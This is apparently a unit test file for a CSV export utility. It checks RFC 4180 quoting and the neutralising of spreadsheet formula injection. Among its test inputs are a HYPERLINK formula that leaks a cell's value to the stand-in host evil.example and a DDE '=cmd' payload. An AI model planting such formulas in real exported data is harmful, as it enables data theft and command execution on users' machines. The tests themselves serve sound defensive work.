// The CSV writer: RFC 4180 quoting, and no field a spreadsheet would run as a formula (OWASP).
import { describe, expect, it } from 'vitest'

import { csvField, csvRow } from '../../utilities/csv'
import { parseCsv } from '../helpers/csv'

describe('csvRow', () => {
  it('quotes per RFC 4180', () => {
    expect(csvRow(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 7, { a: 1 }])).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,7,"{""a"":1}"\r\n',
    )
  })

  it('prefixes text starting with = + - @ tab or CR with a quote, then quotes as needed', () => {
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('+33 1 23')).toBe("'+33 1 23")
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)")
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe(`"'\r=1"`)
    expect(csvField(' =1')).toBe("' =1")
    expect(csvField('\n-1')).toBe(`"'\n-1"`)
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
  })

  it('leaves other text, numbers and JSON alone', () => {
    expect(csvField('a=b')).toBe('a=b')
    expect(csvField('x =1')).toBe('x =1')
    expect(csvField(-5)).toBe('-5')
    expect(csvField(['=x'])).toBe('"[""=x""]"')
    expect(csvField(new Date('2024-01-02T03:04:05.000Z'))).toBe('2024-01-02T03:04:05.000Z')
  })

  it('parses back to the prefixed text', () => {
    const values = ['=cmd|" /C calc"!A0', '-', '@', '\r\n']
    expect(parseCsv(csvRow(values))).toEqual([values.map((value) => `'${value}`)])
  })
})
